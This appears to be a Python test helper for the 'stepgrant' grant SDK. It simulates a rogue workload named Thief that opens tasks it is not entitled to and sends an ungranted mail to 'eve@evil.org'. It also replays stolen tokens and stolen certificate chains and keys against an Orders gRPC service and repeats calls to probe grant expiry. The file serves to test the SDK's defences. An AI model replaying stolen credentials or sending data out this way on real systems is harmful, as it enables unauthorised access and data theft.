"""Another workload of the same trust domain that has got hold of grants: it presents them as it likes, without the SDK.

Each line on its standard input says what to try; the answer is what the other side really said.
"""

from __future__ import annotations

import asyncio
import base64
import os
import time
from collections.abc import Mapping
from datetime import UTC, datetime
from typing import Any, Final

import grpc
import httpx
from lines import Lines
from shop import orders_pb2, orders_pb2_grpc

import stepgrant
from stepgrant.grant import GRANT_METADATA_KEY
from stepgrant.spiffe.ids import parse_spiffe_id
from stepgrant.spiffe.probe import grpc_channel_credentials, probe_server
from stepgrant.spiffe.source import IdentitySnapshot, take_snapshot
from stepgrant.spiffe.workload import WorkloadApiSource

ORDERS: Final = "spiffe://dev.stepgrant.test/resource/orders"
ENOUGH: Final = 10.0
"""Seconds after which a grant that still works is news."""
REQUESTS: Final = {
    "Get": orders_pb2.GetRequest,
    "Search": orders_pb2.SearchRequest,
    "Refund": orders_pb2.RefundRequest,
}
Told = dict[str, Any]


class Thief:
    """It has an identity of its own, and whatever it was given."""

    def __init__(self, own: IdentitySnapshot) -> None:
        self._own = own
        self._channels: dict[bytes, grpc.aio.Channel] = {}

    async def open_task(self) -> Told:
        """Opens a task of a type that is not for this workload, by the SDK."""
        try:
            async with stepgrant.task("Refund", order_id="ord_00000042", customer="jo@x.org"):
                return {"code": "accepted"}
        except stepgrant.Denied as denied:
            return {"error": "Denied", "code": denied.denial.code.value, "text": str(denied)}

    async def post(self) -> Told:
        """A request without a grant."""
        async with httpx.AsyncClient(base_url=os.environ["MAIL_URL"]) as http:
            answer = await http.post("/messages", json={"to": ["eve@evil.org"], "subject": "Hi", "body": "Orders"})
        if answer.is_success:
            return {"code": "accepted"}
        return {"error": f"HTTP {answer.status_code}", "code": answer.json()["error"], "text": answer.text}

    async def call(self, asked: Mapping[str, Any]) -> Told:
        """A call with the token and the certificate of another, or without."""
        identity = self._stolen(asked["with"]) if "with" in asked else self._own
        stub = orders_pb2_grpc.OrdersStub(await self._channel(identity))
        metadata = ((GRANT_METADATA_KEY, asked["token"]),) if "token" in asked else ()
        try:
            await getattr(stub, asked["call"])(
                REQUESTS[asked["call"]](**asked["message"]), metadata=metadata, timeout=5
            )
        except grpc.aio.AioRpcError as error:
            code = str(dict(error.trailing_metadata() or ()).get("stepgrant-refusal", ""))
            return {"error": error.code().name, "code": code, "text": error.details(), "at": time.monotonic()}
        return {"code": "accepted", "at": time.monotonic()}

    async def until_refused(self, asked: Mapping[str, Any], lines: Lines | None) -> Told:
        """The same call again and again. Says when the first is accepted, returns the first refusal."""
        calls, deadline = 0, time.monotonic() + ENOUGH
        while (told := await self.call(asked))["code"] == "accepted" and told["at"] < deadline:
            calls += 1
            if calls == 1 and lines is not None:
                lines.say(told)
        return {**told, "calls": calls}

    def _stolen(self, loot: Mapping[str, Any]) -> IdentitySnapshot:
        chain = tuple(base64.b64decode(one) for one in loot["chain"])
        return take_snapshot(chain, loot["key"].encode("ascii"), self._own.bundles, datetime.now(UTC))

    async def _channel(self, identity: IdentitySnapshot) -> grpc.aio.Channel:
        if identity.leaf_sha256 not in self._channels:
            host, _, port = os.environ["ORDERS_ADDRESS"].rpartition(":")
            server, now = parse_spiffe_id(ORDERS), datetime.now(UTC)
            pinned = await asyncio.to_thread(probe_server, host, int(port), server, identity, now)
            credentials, options = grpc_channel_credentials(identity, pinned)
            self._channels[identity.leaf_sha256] = grpc.aio.secure_channel(f"{host}:{port}", credentials, options)
        return self._channels[identity.leaf_sha256]


async def main() -> None:
    """One attempt for each line, until the input ends."""
    source = WorkloadApiSource(os.environ["SPIFFE_ENDPOINT_SOCKET"])
    thief = Thief(await asyncio.to_thread(source.current))
    lines = await Lines.open()
    lines.say({"ready": True})
    while (asked := await lines.hear()) is not None:
        if "call" not in asked:
            told = await (thief.open_task() if "open" in asked else thief.post())
        elif "until_refused" in asked:
            told = await thief.until_refused(asked, lines if asked["until_refused"] == "say" else None)
        else:
            told = await thief.call(asked)
        lines.say(told)
    source.close()


if __name__ == "__main__":
    asyncio.run(main())
